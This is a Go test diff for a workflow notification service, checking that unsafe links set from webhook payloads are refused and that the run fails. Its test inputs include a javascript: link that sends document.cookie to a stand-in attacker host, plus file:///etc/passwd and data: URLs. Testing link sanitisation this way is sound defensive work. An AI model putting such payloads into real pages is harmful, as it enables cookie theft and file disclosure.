@@ -384,3 +384,50 @@ func TestWorkflowEmailFromAReceiverReachesTheOwners(t *testing.T) {
 		}
 	})
 }
+
+// A set step cannot give a notification a link the receivers refuse
+// (javascript:, file:): the run fails, the notification is delivered with
+// the link it came with, and "try it" says the same; a sample event with
+// such a link is refused as a receiver would refuse it.
+func TestWorkflowSetOfAnUnsafeLinkFailsTheRun(t *testing.T) {
+	storetest.Run(t, func(t *testing.T, s *store.Store) {
+		a := newAPI(t, s)
+		ts := a.live()
+		ada := a.register("Ada")
+		tok := a.webhookToken(ada, "org", "")
+		id := a.addWorkflow(ada, "Links", "", perch.Step{Set: map[string]string{"title": `"[x] " + event.title`, "url": `payload.link`}})
+		ws := dial(t, ts, ada.Access, "")
+		ws.ready()
+
+		const page = "https://status.example.com/incidents/7"
+		for i, link := range []string{"javascript:fetch('https://evil.example/'+document.cookie)", "file:///etc/passwd", "JAVASCRIPT:alert(1)"} {
+			a.deliver(tok, map[string]any{"title": "db down", "url": page, "link": link})
+			if n := ws.next().notification(t); n.URL != page || n.Title != "db down" {
+				t.Fatalf("%s: the client saw %+v, want the notification unchanged", link, n)
+			}
+			runs := a.runsOf(ada.OrgID, id)
+			if len(runs) != i+1 || runs[0].Status != perch.RunFailed || runs[0].Steps[0].Status != "failed" ||
+				!strings.HasPrefix(runs[0].Steps[0].Detail, "url: ") {
+				t.Fatalf("%s: runs = %+v, want a failed set step about the url", link, runs)
+			}
+		}
+		// A good link is taken.
+		a.deliver(tok, map[string]any{"title": "db up", "url": page, "link": "https://status.example.com/incidents/8"})
+		if n := ws.next().notification(t); n.URL != "https://status.example.com/incidents/8" || n.Title != "[x] db up" {
+			t.Fatalf("the client saw %+v, want the link set", n)
+		}
+
+		path := workflowsPath + "/" + id + "/test"
+		got := expect(t, a.call("POST", path, ada.Access, map[string]any{"event": map[string]any{"title": "t", "url": page},
+			"payload": map[string]any{"link": "javascript:alert(1)"}}), 200).Data()
+		if n := got["notification"].(map[string]any); got["status"] != perch.RunFailed || n["url"] != page || n["title"] != "t" {
+			t.Fatalf("try = %v, want failed with the notification unchanged", got)
+		}
+		for _, link := range []string{"javascript:alert(1)", "data:text/html,x", "/relative"} {
+			res := expect(t, a.call("POST", path, ada.Access, map[string]any{"event": map[string]any{"url": link}}), 422)
+			if res.Fields()["event.url"] == nil {
+				t.Fatalf("a sample with url %q: %s", link, res.Raw)
+			}
+		}
+	})
+}
